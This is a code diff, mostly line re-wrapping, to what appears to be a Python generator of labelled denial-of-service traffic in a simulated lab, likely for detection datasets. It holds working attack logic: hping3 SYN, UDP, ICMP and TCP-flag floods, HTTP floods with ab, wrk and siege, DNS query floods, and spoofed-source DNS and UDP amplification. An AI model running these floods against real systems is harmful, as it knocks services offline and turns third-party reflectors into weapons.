@@ -19,8 +19,9 @@ def _open_port(job, victim, *among):
 
 
 def _tcp(job, attacker, victim, flags, port, rate, count):
-    more = job.rng.choice(([], [], ["-d", str(job.rng.choice((40, 120, 600)))])) + job.rng.choice((["-w", "64240"], ["-w", "1024"], []))
-    _hping(job, attacker, *flags, "-p", port, *more, victim.v4, rate=rate, count=count)
+    size = job.rng.choice(([], [], ["-d", str(job.rng.choice((40, 120, 600)))]))
+    window = job.rng.choice((["-w", "64240"], ["-w", "1024"], []))
+    _hping(job, attacker, *flags, "-p", port, *size, *window, victim.v4, rate=rate, count=count)
 
 
 # -- from one -----------------------------------------------------------------------
@@ -42,7 +43,8 @@ def syn_flood(job):
 @attack("dos", "hping3")
 def tcp_flag_flood(job):
     """ACK, PSH+ACK, RST, FIN, or all of them at once."""
-    _from_one(job, job.rng.choice((["-A"], ["-P", "-A"], ["-R"], ["-F", "-A"], ["-F", "-S", "-R", "-P", "-A", "-U"])))
+    _from_one(job, job.rng.choice((["-A"], ["-P", "-A"], ["-R"], ["-F", "-A"],
+                                   ["-F", "-S", "-R", "-P", "-A", "-U"])))
 
 
 @attack("dos", "hping3")
@@ -53,7 +55,8 @@ def udp_flood(job):
     port = job.rng.choice((_open_port(job, victim), f"++{job.rng.randrange(1, 30000)}", 53, 123))
     source = job.rng.choice(([], ["-k", "-s", str(job.rng.randrange(1024, 65000))]))
     with job.claim(attacker, victim):
-        _hping(job, attacker, "-2", "-p", port, *source, "-d", job.rng.choice((0, 18, 200, 512, 1200)), victim.v4, rate=rate, count=count)
+        _hping(job, attacker, "-2", "-p", port, *source, "-d", job.rng.choice((0, 18, 200, 512, 1200)), victim.v4,
+               rate=rate, count=count)
 
 
 @attack("dos", "hping3", "ping")
@@ -64,7 +67,8 @@ def icmp_flood(job):
     family = job.family()
     with job.claim(attacker, victim, family=family):
         if family == 6 or job.rng.random() < 0.4:
-            job.run(attacker, ["ping", "-q", "-f", "-i", f"{1 / rate:.4f}", "-c", count, "-s", job.rng.choice((56, 500, 1200)),
+            job.run(attacker, ["ping", "-q", "-f", "-i", f"{1 / rate:.4f}", "-c", count, "-s",
+                               job.rng.choice((56, 500, 1200)),
                                victim.address(family)], count / rate + 4)
         else:
             _hping(job, attacker, "-1", "-d", job.rng.choice((0, 56, 800, 1400)), victim.v4, rate=rate, count=count)
@@ -78,15 +82,18 @@ def _hammer(job, attacker, victim, service):
     seconds = min(job.left * 0.7, rng.uniform(4, 10))
     which = rng.choice(("ab", "wrk", "siege")) if service == "web" else rng.choice(("ab", "wrk"))
     if which == "ab":
-        job.run(attacker, ["ab", "-q", "-r", *rng.choice(([], ["-k"])), "-c", rng.choice((5, 20, 60)), "-n", rng.randint(300, 1500), "-s", "5",
+        job.run(attacker, ["ab", "-q", "-r", *rng.choice(([], ["-k"])), "-c", rng.choice((5, 20, 60)), "-n",
+                           rng.randint(300, 1500), "-s", "5",
                            url], seconds + 2)
     elif which == "wrk":
         # wrk has no rate: few connections for a short time keep it small.
         header = rng.choice(([], ["-H", "Connection: close"], ["-H", "Connection: close"]))
-        job.run(attacker, ["wrk", "-t", "1", "-c", rng.choice((2, 8, 30)), "-d", f"{min(seconds, 1.5 if not header else 3):.0f}s", "--timeout", "3",
+        job.run(attacker, ["wrk", "-t", "1", "-c", rng.choice((2, 8, 30)), "-d",
+                           f"{min(seconds, 1.5 if not header else 3):.0f}s", "--timeout", "3",
                            *header, url], seconds + 2)
     else:
-        job.run(attacker, ["siege", "-q", "-b", "-c", rng.choice((5, 15, 25)), "-r", rng.randint(10, 40), url], seconds)
+        job.run(attacker, ["siege", "-q", "-b", "-c", rng.choice((5, 15, 25)), "-r", rng.randint(10, 40), url],
+                seconds)
 
 
 @attack("dos", "ab", "wrk", "siege", wants="web")
@@ -104,10 +111,12 @@ def dns_query_flood(job):
     from .. import words
     victim = job.victim()
     attacker = job.attacker(victim)
-    names = "".join(f"{words.host_label(job.rng, 10)}.{job.plan.domain} {job.rng.choice(('A', 'AAAA', 'MX'))}\n" for _ in range(job.rng.randint(200, 700)))
+    names = "".join(f"{words.host_label(job.rng, 10)}.{job.plan.domain} {job.rng.choice(('A', 'AAAA', 'MX'))}\n"
+                    for _ in range(job.rng.randint(200, 700)))
     dig = f"dig @{victim.v4} +tries=1 +time=1 +short -f {job.file(names)}"
     with job.claim(attacker, victim, port=53, protocol="udp"):
-        job.run(attacker, ["sh", "-c", f"{' & '.join([dig] * job.rng.randint(2, 6))} & wait"], job.rng.uniform(5, 12))
+        job.run(attacker, ["sh", "-c", f"{' & '.join([dig] * job.rng.randint(2, 6))} & wait"],
+                job.rng.uniform(5, 12))
 
 
 # -- from many ----------------------------------------------------------------------
@@ -139,7 +148,8 @@ def _spoofed(job, kind):
 
 def from_many(job, victim, port, protocol, do):
     """Several hosts do the same to one victim at one time."""
-    together(job, job.attackers(job.rng.randint(3, 5), victim), lambda attacker: job.claim(attacker, victim, port=port, protocol=protocol), do)
+    together(job, job.attackers(job.rng.randint(3, 5), victim),
+             lambda attacker: job.claim(attacker, victim, port=port, protocol=protocol), do)
 
 
 @attack("ddos", "hping3")
@@ -148,23 +158,27 @@ def flood_from_many(job):
     victim = job.victim()
     rate, count = _rate(job, 60, 400)
     count = min(count, 2500)
-    how = job.rng.choice((["-S", "-p", _open_port(job, victim)], ["-2", "-d", "400", "-p", "++2000"], ["-2", "-k", "-s", "5555", "-d", "900", "-p", 53],
+    how = job.rng.choice((["-S", "-p", _open_port(job, victim)], ["-2", "-d", "400", "-p", "++2000"],
+                          ["-2", "-k", "-s", "5555", "-d", "900", "-p", 53],
                           ["-1", "-d", "200"], ["-A", "-p", _open_port(job, victim)]))
-    from_many(job, victim, None, "", lambda attacker: _hping(job, attacker, *how, victim.v4, rate=rate, count=count))
+    from_many(job, victim, None, "", lambda attacker: _hping(job, attacker, *how, victim.v4, rate=rate,
+                                                             count=count))
 
 
 @attack("ddos", "ab", "wrk", "siege", wants="web")
 def http_flood_from_many(job):
     victim = job.victim()
     service = job.rng.choice(("web", "web", "tls"))
-    from_many(job, victim, victim.services[service], "tcp", lambda attacker: _hammer(job, attacker, victim, service))
+    from_many(job, victim, victim.services[service], "tcp",
+              lambda attacker: _hammer(job, attacker, victim, service))
 
 
 @attack("ddos", "hping3", wants="dns")
 def dns_amplification(job):
     """Questions in the victim's name, long answers to the victim."""
     question = (job.rng.getrandbits(16).to_bytes(2, "big") + bytes.fromhex("0100 0001 0000 0000 0001")
-                + b"".join(bytes([len(p)]) + p.encode() for p in job.services.amplified.split(".")) + bytes.fromhex("00 0010 0001")
+                + b"".join(bytes([len(p)]) + p.encode()
+                           for p in job.services.amplified.split(".")) + bytes.fromhex("00 0010 0001")
                 + bytes.fromhex("00 0029 1000 00000000 0000"))
     _reflected(job, [h for h in job.plan.offering("dns")], 53, question)
 
@@ -174,7 +188,8 @@ def udp_amplification(job):
     """The same with devices that answer too much."""
     reflectors = job.plan.offering("reflector")
     port = reflectors[0].services["reflector"]
-    _reflected(job, [h for h in reflectors if h.services["reflector"] == port], port, job.rng.randbytes(job.rng.choice((8, 15, 40))))
+    _reflected(job, [h for h in reflectors if h.services["reflector"] == port], port,
+               job.rng.randbytes(job.rng.choice((8, 15, 40))))
 
 
 def _reflected(job, reflectors, port, question):
@@ -188,4 +203,5 @@ def _reflected(job, reflectors, port, question):
                 count = int(min(rate * 2, 300))
                 source = job.rng.choice((["-k", "-s", str(job.rng.randrange(1024, 65000))], []))
                 if job.left > 1:
-                    _hping(job, sender, "-2", "-a", victim.v4, "-p", port, *source, "-E", path, "-d", len(question), reflector.v4, rate=rate, count=count)
+                    _hping(job, sender, "-2", "-a", victim.v4, "-p", port, *source, "-E", path, "-d",
+                           len(question), reflector.v4, rate=rate, count=count)
